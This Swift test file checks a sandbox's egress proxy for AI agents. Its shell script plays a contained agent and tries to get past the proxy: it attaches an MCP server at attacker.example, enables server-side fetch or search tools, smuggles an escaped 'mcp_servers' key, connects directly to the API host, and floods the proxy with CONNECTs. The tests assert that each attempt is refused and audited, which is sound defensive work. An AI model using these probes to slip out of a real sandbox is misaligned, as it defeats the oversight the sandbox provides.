@testable import BurrowSystem
@testable import BurrowHTTP
@testable import BurrowPodman

@testable import BurrowKit
import Foundation
import Synchronization
import XCTest
@testable import BurrowWeb
@testable import BurrowCommands

/// The agent as the attacker of the model endpoint and the egress proxy: it asks Anthropic's servers
/// to fetch or connect for it (server tools, MCP connector, betas), and tries the API host directly.
/// A control request in the same script proves the stand-in upstream was reachable all along.
final class ServerToolAttackTests: XCTestCase {
    /// Stands in for the Messages API (and for an allowlisted site): records each request's body and betas.
    final class Upstream: @unchecked Sendable {
        let server: HTTPServer
        let port: UInt16
        let log = Seen()
        var seen: [String] { log.values.withLock { $0 } }

        final class Seen: Sendable { let values = Mutex<[String]>([]) }

        init() throws {
            let listener = try AsyncSocket.listening(on: .ipv4("127.0.0.1", port: 0))
            port = listener.localAddress!.port!
            let log = log
            server = HTTPServer(listener: listener) { request in
                guard request.path == "/v1/messages" else { return .text("site answered \(request.path)") }
                log.values.withLock { $0.append(String(decoding: request.body, as: UTF8.self) + " beta=" + (request.headers["anthropic-beta"] ?? "")) }
                var headers = HTTPHeaders()
                headers.add("Content-Type", "application/json")
                return HTTPResponse(headers: headers, body: .bytes(Array(#"{"type":"message","model":"claude-control","usage":{"input_tokens":1,"output_tokens":1}}"#.utf8)))
            }
            let server = self.server
            Task { await server.run() }
        }
    }

    /// `post HEADER BODY`: a request to the model endpoint; JSON lines of the answer prefixed, so
    /// that they stay log lines (a JSON line of the agent's output is read as an agent event).
    static let post = #"post() { body="$2"; (printf 'POST /v1/messages?beta=true HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n%s\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "$1" "${#body}" "$body"; sleep 1) | nc 127.0.0.1 3128 | sed 's/^/> /'; echo; }"#

    static func script(port: UInt16) -> String {
        """
        \(post)
        echo "== control"; post 'x-probe: 1' '{"model":"claude-control","max_tokens":5,"messages":[{"role":"user","content":"control-marker"}]}'
        echo "== mcp"; post 'anthropic-beta: mcp-client-2025-04-04' '{"model":"m","max_tokens":5,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}'
        echo "== fetch"; post 'anthropic-beta: web-fetch-2025-09-10' '{"model":"m","max_tokens":5,"messages":[],"tools":[{"name":"Bash","input_schema":{}},{"type":"web_fetch_20250910","name":"web_fetch"}]}'
        echo "== beta"; post 'anthropic-beta: claude-code-20250219,files-api-2025-04-14' '{"model":"m","max_tokens":5,"messages":[]}'
        echo "== escaped"; post 'x-probe: 1' '{"model":"m","max_tokens":5,"messages":[],"mcp\\u005fservers":[{"url":"https://attacker.example/escaped"}]}'
        echo "== search"; post 'x-probe: 1' '{"model":"m","max_tokens":5,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}'
        echo "== direct"; (printf 'CONNECT api.anthropic.com:443 HTTP/1.1\\r\\nHost: api.anthropic.com:443\\r\\n\\r\\n'; sleep 1) | nc 127.0.0.1 3128; echo
        echo "== tunnel"; (printf 'CONNECT allowed.burrow.test:\(port) HTTP/1.1\\r\\nHost: allowed.burrow.test\\r\\n\\r\\nGET /tunnelled HTTP/1.0\\r\\nHost: allowed.burrow.test\\r\\n\\r\\n'; sleep 1) | nc 127.0.0.1 3128; echo
        echo "== end"; echo "script-end"
        """
    }

    func app(_ upstream: Upstream, serverTools: [String]? = nil, eventLog: String? = nil, script: String) async throws -> BurrowTestApp {
        setenv("BURROW_TEST_REAL_KEY", "sk-ant-api03-server-tool-test", 1)
        return try await BurrowTestApp { config in
            config.network = NetworkConfig(mode: .allowlist)
            // The defaults too: the API host must not be among them.
            config.network.allow = NetworkConfig.defaultAllow + ["allowed.burrow.test:\(upstream.port)"]
            config.network.resolve = ["allowed.burrow.test": "127.0.0.1"]
            config.credentials = CredentialsConfig(anthropic: .init(env: "BURROW_TEST_REAL_KEY", serverTools: serverTools),
                                                   upstream: "http://127.0.0.1:\(upstream.port)")
            config.agentCommand = ["sh", "-c"]  // the stand-in image is busybox: no bash
            config.taskInput = .argument
            if let eventLog { config.limits.eventLog = eventLog }
            _ = script
        }
    }

    static func sections(_ events: [StreamEvent]) -> [String: String] {
        let output = events.filter { $0.kind == "log" }.compactMap { event -> String? in
            (try? JSONDecoder().decode(OutputEvent.LogLine.self, from: Data(event.data.utf8)))?.text
        }
        var sections: [String: String] = [:]
        var name = ""
        for line in output {
            if line.hasPrefix("== ") { name = String(line.dropFirst(3)) } else { sections[name, default: ""] += line + "\n" }
        }
        return sections
    }

    static func auditLines(_ text: String) -> [[String: Any]] {
        text.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
    }

    func testTheModelEndpointRefusesServerToolsConnectorsAndUnknownBetasAndTheAPIHostDirectly() async throws {
        let upstream = try Upstream()
        defer { Task { await upstream.server.shutdown() } }
        let app = try await app(upstream, script: Self.script(port: upstream.port))
        let record = try await app.launch(Self.script(port: upstream.port))
        let events = try await app.readStream(record.id)
        let sections = Self.sections(events)
        if ProcessInfo.processInfo.environment["BURROW_TEST_VERBOSE"] != nil { print(sections) }
        XCTAssertTrue(sections["end", default: ""].contains("script-end"), "the script ran to its end: \(sections)")
        XCTAssertTrue(sections["control", default: ""].contains("HTTP/1.1 200"), sections["control", default: ""])
        for (name, field) in [("mcp", "mcp_servers"), ("fetch", "web_fetch_20250910"), ("beta", "files-api-2025-04-14"), ("search", "web_search_20250305")] {
            let answer = sections[name, default: ""]
            XCTAssertTrue(answer.contains("HTTP/1.1 403") && answer.contains("permission_error") && answer.contains(field)
                          && answer.contains("credentials.anthropic.serverTools"), "\(name): \(answer)")
        }
        XCTAssertTrue(sections["escaped", default: ""].contains("HTTP/1.1 400"), sections["escaped", default: ""])
        let direct = sections["direct", default: ""]
        XCTAssertTrue(direct.contains("403") && direct.contains("use the model endpoint (ANTHROPIC_BASE_URL)"), direct)
        XCTAssertTrue(sections["tunnel", default: ""].contains("site answered /tunnelled"), sections["tunnel", default: ""])
        // The probe reached the stand-in; nothing refused did.
        let seen = upstream.seen
        XCTAssertEqual(seen.count, 1, "\(seen)")
        XCTAssertTrue(seen.first?.contains("control-marker") == true, "\(seen)")

        // The audit: the allowed and the refused CONNECT, the model call and the refused ones, kept after teardown.
        _ = try await app.finished(record.id)
        try await app.manager.teardown(record.id, purge: false)
        let response = try await app.server.request("GET", "/api/burrows/\(record.id)/audit")
        XCTAssertEqual(response.status, 200)
        XCTAssertEqual(response.headers["content-type"], "application/x-ndjson")
        let lines = Self.auditLines(response.text)
        func has(_ test: ([String: Any]) -> Bool) -> Bool { lines.contains(where: test) }
        XCTAssertTrue(has { $0["host"] as? String == "allowed.burrow.test" && $0["allowed"] as? Bool == true && $0["phase"] as? String == "closed"
                           && ($0["bytesReceived"] as? Int ?? 0) > 0 && $0["rule"] as? String == "network.allow allowed.burrow.test:\(upstream.port)" }, response.text)
        XCTAssertTrue(has { $0["host"] as? String == "api.anthropic.com" && $0["allowed"] as? Bool == false && $0["decidedBy"] as? String == "policy" }, response.text)
        XCTAssertTrue(has { $0["phase"] as? String == "model" && $0["status"] as? Int == 200 && $0["path"] as? String == "/v1/messages?beta=true"
                           && $0["time"] is Double && $0["credential"] as? String == "anthropic" }, response.text)
        XCTAssertTrue(has { $0["allowed"] as? Bool == false && $0["rule"] as? String == "credentials.anthropic.serverTools"
                           && ($0["reason"] as? String ?? "").contains("mcp_servers") }, response.text)
        // Access control as the other routes; unknown ids 404; gone with the record.
        let stranger = try await app.server.request("GET", "/api/burrows/\(record.id)/audit", authorised: false)
        XCTAssertEqual(stranger.status, 401)
        let unknown = try await app.server.request("GET", "/api/burrows/nosuchburrow/audit")
        XCTAssertEqual(unknown.status, 404)
        let path = app.stateDir + "/burrows/\(record.id)/" + BurrowAudit.fileName
        XCTAssertTrue(FileManager.default.fileExists(atPath: path))
        try await app.manager.teardown(record.id, purge: true)
        XCTAssertFalse(FileManager.default.fileExists(atPath: path))
        await app.cleanUp()
    }

    func testANamedServerToolPassesAndOnlyIt() async throws {
        let upstream = try Upstream()
        defer { Task { await upstream.server.shutdown() } }
        let app = try await app(upstream, serverTools: ["web_search"], script: "")
        let record = try await app.launch(Self.script(port: upstream.port))
        let sections = Self.sections(try await app.readStream(record.id))
        XCTAssertTrue(sections["search", default: ""].contains("HTTP/1.1 200"), sections["search", default: ""])
        XCTAssertTrue(sections["fetch", default: ""].contains("HTTP/1.1 403"), sections["fetch", default: ""])
        XCTAssertTrue(sections["mcp", default: ""].contains("HTTP/1.1 403"), sections["mcp", default: ""])
        let seen = upstream.seen
        XCTAssertEqual(seen.count, 2, "\(seen)")
        XCTAssertTrue(seen.contains { $0.contains("web_search_20250305") }, "\(seen)")
        await app.cleanUp()
    }

    func testTheAuditCapHoldsAgainstAFloodOfRefusedConnects() async throws {
        let upstream = try Upstream()
        defer { Task { await upstream.server.shutdown() } }
        let app = try await app(upstream, eventLog: "64k", script: "")
        let flood = #"for i in $(seq 1 1500); do printf 'CONNECT flood-%s.example:443 HTTP/1.1\r\n\r\n' $i | nc 127.0.0.1 3128 >/dev/null; done; echo flood-done"#
        let record = try await app.launch(flood)
        _ = try await app.finished(record.id, within: 300)
        let path = app.stateDir + "/burrows/\(record.id)/" + BurrowAudit.fileName
        let text = try String(contentsOfFile: path, encoding: .utf8)
        XCTAssertLessThanOrEqual(text.utf8.count, 64 << 10, "the cap held")
        let lines = Self.auditLines(text)
        XCTAssertGreaterThan(lines.filter { ($0["host"] as? String ?? "").hasPrefix("flood-") }.count, 100, "the flood was audited up to the cap")
        XCTAssertEqual(lines.filter { ($0["message"] as? String ?? "").contains("reached its cap") }.count, 1, text.suffix(600).description)
        let counted = lines.compactMap { $0["notWritten"] as? Int }.max() ?? 0
        XCTAssertGreaterThan(counted, 500, "later decisions were counted: \(text.suffix(400))")
        await app.cleanUp()
    }
}
